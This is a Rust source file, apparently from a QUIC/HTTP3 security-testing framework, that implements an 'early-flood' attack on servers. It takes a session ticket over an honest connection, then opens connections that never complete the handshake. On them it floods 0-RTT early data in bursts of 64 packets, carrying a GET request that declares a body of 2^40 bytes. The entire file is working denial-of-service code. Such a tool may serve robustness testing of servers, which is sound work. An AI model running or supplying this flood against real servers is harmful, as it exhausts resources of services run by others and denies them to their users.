//! Endless early data.

use std::time::Duration;

use courser_base::Time;
use courser_crypto::Space;

use crate::attack::{Attack, Pace, Plan, Victim};
use crate::attacker::Attacker;
use crate::connection::Connection;
use crate::early_client_tls;
use crate::hooks::{Fate, Honest, Hooks, PacketToSend};
use crate::http::{self, Method};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "early-flood",
    labels: &["A107"],
    summary: "endless 0-RTT packets on connections whose handshake never ends",
    victim: Victim::Server,
    make: || Box::new(EarlyFlood::default()),
};

#[derive(Default)]
struct EarlyFlood {
    state: State,
}

#[derive(Default)]
enum State {
    /// The next connection needs another ticket.
    #[default]
    Begin,
    /// An honest connection brings the ticket. It has been confirmed since this time.
    Met(u64, Option<Time>),
    /// Early data is sent on this connection, from this offset of a stream, until the time is over.
    Flooding(u64, u64, Time),
}

/// Sends no answer to the server's handshake.
struct Silent;

impl Hooks for Silent {
    fn on_packet(&mut self, _now: Time, packet: &mut PacketToSend) -> Fate {
        match packet.space {
            Space::Initial => Fate::Send,
            Space::Handshake | Space::Application => Fate::Drop,
        }
    }
}

impl Attack for EarlyFlood {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.connect_with(early_client_tls(b"h3"));
    }

    fn turn(&mut self, attacker: &mut Attacker, now: Time) -> Pace {
        match &mut self.state {
            State::Begin => {
                self.state = State::Met(attacker.connect(0, Box::new(Honest)), None);
            }
            State::Met(key, since) => {
                let key = *key;
                if attacker.peek(key).is_none_or(Connection::is_closed) {
                    self.state = State::Begin;
                } else if attacker.peek(key).is_some_and(Connection::is_confirmed) {
                    let since = *since.get_or_insert(now);
                    if now >= since + TICKET_DELAY {
                        attacker.forget(key);
                        self.begin_flood(attacker, now);
                    }
                }
            }
            State::Flooding(key, offset, until) => match attacker.connection(*key) {
                Some(connection) if now < *until && !connection.is_closed() => {
                    for _ in 0..BURST {
                        let id = http::request_stream(0);
                        connection.send_early(&[http::stream(id, *offset, &[0; PAYLOAD], false)]);
                        *offset += PAYLOAD as u64;
                    }
                }
                _ => {
                    attacker.forget(*key);
                    self.state = State::Begin;
                }
            },
        }
        Pace::Now
    }
}

impl EarlyFlood {
    fn begin_flood(&mut self, attacker: &mut Attacker, now: Time) {
        let key = attacker.connect(1, Box::new(Silent));
        let connection = attacker.connection(key).expect("made just now");
        if connection.begin_early() {
            // The ClientHello comes first.
            connection.transmit(now);
            // A request whose content never ends.
            let mut request = http::request(Method::Get, "/");
            request.extend(http::header(http::DATA, 1 << 40));
            let id = http::request_stream(0);
            connection.send_early(&[http::stream(id, 0, &request, false)]);
            self.state = State::Flooding(key, request.len() as u64, now + FLOOD);
        } else {
            attacker.forget(key);
            self.state = State::Begin;
        }
    }
}

/// Time for the tickets of a server after its handshake.
const TICKET_DELAY: Duration = Duration::from_millis(20);

/// The time for which one connection is flooded.
const FLOOD: Duration = Duration::from_millis(50);

/// Packets in one burst, and stream bytes in each.
const BURST: usize = 64;
const PAYLOAD: usize = 1100;
